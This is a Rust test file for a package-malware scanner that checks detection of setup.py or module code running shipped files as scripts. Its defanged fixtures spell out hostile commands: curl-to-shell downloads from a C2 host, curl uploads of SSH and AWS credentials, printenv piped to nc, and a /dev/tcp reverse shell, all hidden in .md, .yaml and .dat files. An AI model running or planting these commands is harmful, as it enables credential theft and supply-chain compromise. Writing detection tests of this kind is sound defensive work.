//! A build or import step that runs an interpreter on a file its package ships
//! (`formats/python/join.rs`, `ran_files`): `setup.py` running `bash scripts/post.sh`, a
//! module's top level doing `exec(open('x.txt').read())` or `runpy.run_path('data/x.yaml')`.
//! The file is analysed as a script of that interpreter whatever its name (`.md`, `.yaml`,
//! `.txt`), graded as the caller's code (install time, import time), and reported on the
//! caller's line naming the file and its line. Fixtures are written here, defanged (commands
//! only `echo`, hosts under `example.invalid`), and scanned; nothing is executed. Benign
//! look-alikes stay below medium.

use std::path::Path;
use std::sync::Arc;

use airlock::analyse::BudgetLimits;
use airlock::finding::{Finding, Severity};
use airlock::scan::{scan, ScanOptions, ScanReport};
use airlock::yara::YaraRules;

fn write(root: &Path, name: &str, data: &[u8]) {
    let p = root.join(name);
    std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
    std::fs::write(&p, data).expect("write");
}

fn scan_path(path: &Path, yara: bool) -> ScanReport {
    let opts = ScanOptions {
        paths: vec![path.to_path_buf()],
        exclude: Vec::new(),
        jobs: 1,
        limits: BudgetLimits::default(),
        yara: yara.then(|| Arc::new(YaraRules::builtin().expect("rules"))),
    };
    scan(&opts, &|_, _| {}).expect("scan")
}

/// Write `files` under a fresh folder and scan it.
fn scan_tree(files: &[(&str, &str)], yara: bool) -> (tempfile::TempDir, ScanReport) {
    let dir = tempfile::tempdir().expect("tempdir");
    for (name, src) in files {
        write(dir.path(), name, src.as_bytes());
    }
    let r = scan_path(dir.path(), yara);
    (dir, r)
}

/// The file or innermost member a finding is on, `/`-separated.
fn on(f: &Finding) -> String {
    match f.location.members.last() {
        Some(m) => m.clone(),
        None => f.location.path.to_string_lossy().replace('\\', "/"),
    }
}

/// The findings of `rule` on the file or member whose name ends with `file`.
fn findings<'a>(r: &'a ScanReport, rule: &str, file: &str) -> Vec<&'a Finding> {
    r.files
        .iter()
        .flat_map(|f| f.findings.iter())
        .filter(|f| f.rule.id == rule && on(f).ends_with(file))
        .collect()
}

fn worst(r: &ScanReport, rule: &str, file: &str) -> Option<Severity> {
    findings(r, rule, file).iter().map(|f| f.severity).max()
}

fn summary(r: &ScanReport) -> Vec<String> {
    r.files
        .iter()
        .flat_map(|f| f.findings.iter())
        .map(|f| {
            format!(
                "{} {} {} {} | {}",
                on(f),
                f.rule.id,
                f.severity,
                f.message,
                f.evidence
            )
        })
        .collect()
}

/// (case, files, caller, rule, severity, words the finding's message must hold).
type Case = (
    &'static str,
    &'static [(&'static str, &'static str)],
    &'static str,
    &'static str,
    Severity,
    &'static [&'static str],
);

fn malicious() -> Vec<Case> {
    use Severity::*;
    vec![
        (
            "setup-bash-script",
            &[
                (
                    "setup.py",
                    "import subprocess\nfrom setuptools import setup\nsubprocess.run(['bash', 'scripts/post.sh'])\nsetup(name='x')\n",
                ),
                (
                    "scripts/post.sh",
                    "#!/bin/sh\ncurl -s https://c2.example.invalid/p.sh | sh\n",
                ),
            ],
            "setup.py",
            "python-shell-command",
            High,
            &["scripts/post.sh:2", "setup.py:3", "at install time"],
        ),
        (
            "setup-sh-markdown-stealer",
            &[
                (
                    "setup.py",
                    "import os\nfrom setuptools import setup\nos.system('sh tools/setup.md')\nsetup(name='x')\n",
                ),
                (
                    "tools/setup.md",
                    "# Setup\n\necho configuring\ncurl -F f=@$HOME/.ssh/id_rsa https://h.example.invalid/u\n",
                ),
            ],
            "setup.py",
            "python-credential-stealer",
            Critical,
            &["tools/setup.md:4", "setup.py:3"],
        ),
        (
            "setup-sys-executable-text",
            &[
                (
                    "setup.py",
                    "import subprocess, sys\nfrom setuptools import setup\nsubprocess.call([sys.executable, 'tools/gen.txt'])\nsetup(name='x')\n",
                ),
                ("tools/gen.txt", "import os\nos.system('echo airlock')\n"),
            ],
            "setup.py",
            "python-shell-command",
            High,
            &["tools/gen.txt:2", "with Python at install time"],
        ),
        (
            "command-class-runs-script",
            &[
                (
                    "setup.py",
                    "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass PostInstall(install):\n    def run(self):\n        subprocess.check_call(['bash', './scripts/post.sh'])\n        install.run(self)\nsetup(name='x', cmdclass={'install': PostInstall})\n",
                ),
                (
                    "scripts/post.sh",
                    "echo start\nwget -qO- https://c2.example.invalid/p.sh | bash\n",
                ),
            ],
            "setup.py",
            "python-shell-command",
            High,
            &["scripts/post.sh:2", "setup.py:6"],
        ),
        (
            "setup-pwsh-file",
            &[
                (
                    "setup.py",
                    "import subprocess\nfrom setuptools import setup\nsubprocess.run(['pwsh', '-NoProfile', '-File', 'tools/i.ps1'])\nsetup(name='x')\n",
                ),
                (
                    "tools/i.ps1",
                    "iex (iwr https://c2.example.invalid/p.ps1)\n",
                ),
            ],
            "setup.py",
            "python-shell-command",
            High,
            &["tools/i.ps1:1", "with PowerShell"],
        ),
        (
            "import-exec-text",
            &[
                ("demo/__init__.py", "exec(open('x.txt').read())\n"),
                ("demo/x.txt", "import os\nos.system('echo airlock')\n"),
            ],
            "demo/__init__.py",
            "python-shell-command",
            High,
            &["demo/x.txt:2", "__init__.py:1", "at import"],
        ),
        (
            "import-run-path-yaml",
            &[
                (
                    "demo/__init__.py",
                    "import runpy\nrunpy.run_path('data/x.yaml')\n",
                ),
                (
                    "demo/data/x.yaml",
                    "import subprocess\nsubprocess.run('echo airlock', shell=True)\n",
                ),
            ],
            "demo/__init__.py",
            "python-shell-command",
            High,
            &["demo/data/x.yaml:2", "at import"],
        ),
        (
            "import-exec-compile-joined-path",
            &[
                (
                    "demo/__init__.py",
                    "import os\np = os.path.join(os.path.dirname(__file__), 'x.cfg')\nexec(compile(open(p).read(), p, 'exec'))\n",
                ),
                (
                    "demo/x.cfg",
                    "import base64\nexec(base64.b64decode('cHJpbnQoJ2FpcmxvY2snKQ=='))\n",
                ),
            ],
            "demo/__init__.py",
            "python-exec-decoded",
            Critical,
            &["demo/x.cfg:2"],
        ),
        (
            "import-path-parent-shell",
            &[
                (
                    "demo/__init__.py",
                    "import subprocess\nfrom pathlib import Path\nHERE = Path(__file__).parent\nsubprocess.run(['sh', str(HERE / 'hooks' / 'x.sh')])\n",
                ),
                (
                    "demo/hooks/x.sh",
                    "printenv | nc h.example.invalid 9\n",
                ),
            ],
            "demo/__init__.py",
            "python-credential-stealer",
            Critical,
            &["demo/hooks/x.sh:1", "at import"],
        ),
    ]
}

#[test]
fn shipped_files_run_by_an_interpreter_are_analysed_as_its_scripts() {
    let mut wrong = Vec::new();
    for (case, files, caller, rule, want, words) in malicious() {
        let (_d, r) = scan_tree(files, false);
        let got = worst(&r, rule, caller);
        let named = findings(&r, rule, caller)
            .iter()
            .any(|f| words.iter().all(|w| f.message.contains(w)));
        if got != Some(want) || !named {
            wrong.push(format!(
                "{case}: want {rule} {want} on {caller} naming {words:?}, got {got:?}\n{:#?}",
                summary(&r)
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
}

/// The byte-pattern rules grade a file run as a script as a script, whatever its name: a
/// reverse shell in a Markdown file is `low` as documentation, `critical` once `sh` runs it;
/// a `node` script (no analyser of its own) is matched with a script's grade.
#[test]
fn byte_patterns_grade_a_run_file_as_a_script() {
    let (_d, r) = scan_tree(
        &[
            (
                "setup.py",
                "import os\nfrom setuptools import setup\nos.system('sh docs/notes.md')\nsetup(name='x')\n",
            ),
            (
                "docs/notes.md",
                "# Notes\n\nbash -i >& /dev/tcp/h.example.invalid/9 0>&1\n",
            ),
        ],
        true,
    );
    assert_eq!(
        worst(&r, "yara-match", "docs/notes.md"),
        Some(Severity::Low),
        "{:#?}",
        summary(&r)
    );
    assert_eq!(
        worst(&r, "yara-match", "setup.py"),
        Some(Severity::Critical),
        "{:#?}",
        summary(&r)
    );

    let (_d, r) = scan_tree(
        &[
            (
                "demo/__init__.py",
                "import subprocess\nfrom pathlib import Path\nsubprocess.run(['node', str(Path(__file__).parent / 'x.js')])\n",
            ),
            (
                "demo/x.js",
                "require('child_process').execSync('curl -s https://c2.example.invalid/x | sh')\n",
            ),
        ],
        true,
    );
    let f = findings(&r, "yara-match", "demo/__init__.py");
    assert!(
        f.iter().any(|f| f.severity == Severity::Medium
            && f.message.contains("demo/x.js")
            && f.message.contains("with node at import")),
        "{:#?}",
        summary(&r)
    );
}

/// The same in an sdist: the join of its members reads the script from the archive.
#[test]
fn an_sdist_setup_running_its_script_is_graded_at_install() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut t = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for (name, text) in [
        ("x-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n"),
        (
            "x-1.0/setup.py",
            "import subprocess\nfrom setuptools import setup\nsubprocess.run(['bash', 'scripts/post.sh'])\nsetup(name='x')\n",
        ),
        (
            "x-1.0/scripts/post.sh",
            "echo hi\ncat ~/.aws/credentials | curl -d @- https://h.example.invalid/c\n",
        ),
    ] {
        let mut h = tar::Header::new_gnu();
        h.set_mode(0o644);
        h.set_size(text.len() as u64);
        h.set_cksum();
        t.append_data(&mut h, name, text.as_bytes()).expect("append");
    }
    let data = t.into_inner().expect("tar").finish().expect("gzip");
    let p = dir.path().join("x-1.0.tar.gz");
    std::fs::write(&p, data).expect("write");
    let r = scan_path(&p, false);
    let f = findings(&r, "python-credential-stealer", "x-1.0/setup.py");
    assert!(
        f.iter().any(|f| f.severity == Severity::Critical
            && f.message.contains("x-1.0/scripts/post.sh:2")
            && f.message.contains("at install time")),
        "{:#?}",
        summary(&r)
    );
}

/// Benign look-alikes: a build script that only builds, a generator run with the
/// interpreter, a script the package does not ship (the call judged as before), a script run
/// only from a function nothing calls at load; and a version file exec'd by `setup.py`, whose
/// content adds nothing to the call's own grade.
#[test]
fn benign_runs_of_shipped_files_stay_below_medium() {
    let cases: &[(&str, &[(&str, &str)])] = &[
        (
            "build-script",
            &[
                (
                    "setup.py",
                    "import subprocess\nfrom setuptools import setup\nsubprocess.run(['bash', 'scripts/build.sh'])\nsetup(name='x')\n",
                ),
                (
                    "scripts/build.sh",
                    "#!/bin/sh\nset -e\n# configure and build the extension\necho building\nmkdir -p build && cd build \\\n  && cmake .. && make -j2\n",
                ),
            ],
        ),
        (
            "generator",
            &[
                (
                    "setup.py",
                    "import subprocess, sys\nfrom setuptools import setup\nsubprocess.check_call([sys.executable, 'tools/gen.py'])\nsetup(name='x')\n",
                ),
                (
                    "tools/gen.py",
                    "import json\nwith open('x.json', 'w') as f:\n    json.dump({}, f)\n",
                ),
            ],
        ),
        (
            "not-shipped",
            &[(
                "setup.py",
                "import subprocess\nfrom setuptools import setup\nsubprocess.run(['bash', 'scripts/missing.sh'])\nsetup(name='x')\n",
            )],
        ),
        (
            "only-on-request",
            &[
                (
                    "demo/tools.py",
                    "import subprocess\ndef bootstrap():\n    subprocess.run(['bash', 'scripts/post.sh'])\n",
                ),
                (
                    "demo/scripts/post.sh",
                    "python3 -c \"import os; os.system('echo airlock')\"\n",
                ),
            ],
        ),
    ];
    let mut wrong = Vec::new();
    for (case, files) in cases {
        for yara in [false, true] {
            let (_d, r) = scan_tree(files, yara);
            let bad: Vec<String> = summary(&r)
                .into_iter()
                .zip(r.files.iter().flat_map(|f| f.findings.iter()))
                .filter(|(_, f)| f.severity >= Severity::Medium)
                .map(|(s, _)| s)
                .collect();
            if !bad.is_empty() {
                wrong.push(format!("{case} (yara {yara}): {bad:#?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));

    // `exec(open('VERSION.txt').read())` keeps the call's own grade (code read from a file
    // that is not a `.py` module); its content adds no finding.
    let (_d, r) = scan_tree(
        &[
            (
                "setup.py",
                "from setuptools import setup\nabout = {}\nexec(open('VERSION.txt').read(), about)\nsetup(name='x', version=about['__version__'])\n",
            ),
            ("VERSION.txt", "__version__ = '1.0'\n"),
        ],
        true,
    );
    assert!(
        !summary(&r).iter().any(|s| s.contains("VERSION.txt:")),
        "{:#?}",
        summary(&r)
    );
}

/// A link in the package that points out of it is not read: the join never follows one.
#[cfg(unix)]
#[test]
fn a_script_linked_from_outside_the_package_is_not_read() {
    let outside = tempfile::tempdir().expect("tempdir");
    write(
        outside.path(),
        "payload.sh",
        b"curl -s https://c2.example.invalid/p.sh | sh\n",
    );
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "setup.py",
        b"import subprocess\nfrom setuptools import setup\nsubprocess.run(['bash', 'scripts/post.sh'])\nsetup(name='x')\n",
    );
    std::fs::create_dir_all(dir.path().join("scripts")).expect("mkdir");
    std::os::unix::fs::symlink(
        outside.path().join("payload.sh"),
        dir.path().join("scripts/post.sh"),
    )
    .expect("symlink");
    let r = scan_path(dir.path(), false);
    assert!(
        !summary(&r).iter().any(|s| s.contains("scripts/post.sh:")),
        "{:#?}",
        summary(&r)
    );
}

/// In a wheel: a module's top level running a shipped data file as code is graded at import,
/// the file read from the archive again.
#[test]
fn a_wheel_module_running_its_data_file_is_graded_at_import() {
    use std::io::Write;
    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (n, d) in [
        (
            "demo/__init__.py",
            "import runpy\nfrom pathlib import Path\nrunpy.run_path(str(Path(__file__).parent / 'assets' / 'init.dat'))\n",
        ),
        (
            "demo/assets/init.dat",
            "import os\nos.system('echo airlock | nc h.example.invalid 9')\n",
        ),
        (
            "demo-1.0.dist-info/METADATA",
            "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
        ),
        (
            "demo-1.0.dist-info/WHEEL",
            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        ),
    ] {
        z.start_file(n, opts).expect("start");
        z.write_all(d.as_bytes()).expect("write");
    }
    let data = z.finish().expect("finish").into_inner();
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join("demo-1.0-py3-none-any.whl");
    std::fs::write(&p, data).expect("write");
    let r = scan_path(&p, false);
    let f = findings(&r, "python-shell-command", "demo/__init__.py");
    assert!(
        f.iter().any(|f| f.severity == Severity::High
            && f.message.contains("demo/assets/init.dat:2")
            && f.message.contains("at import")),
        "{:#?}",
        summary(&r)
    );
}
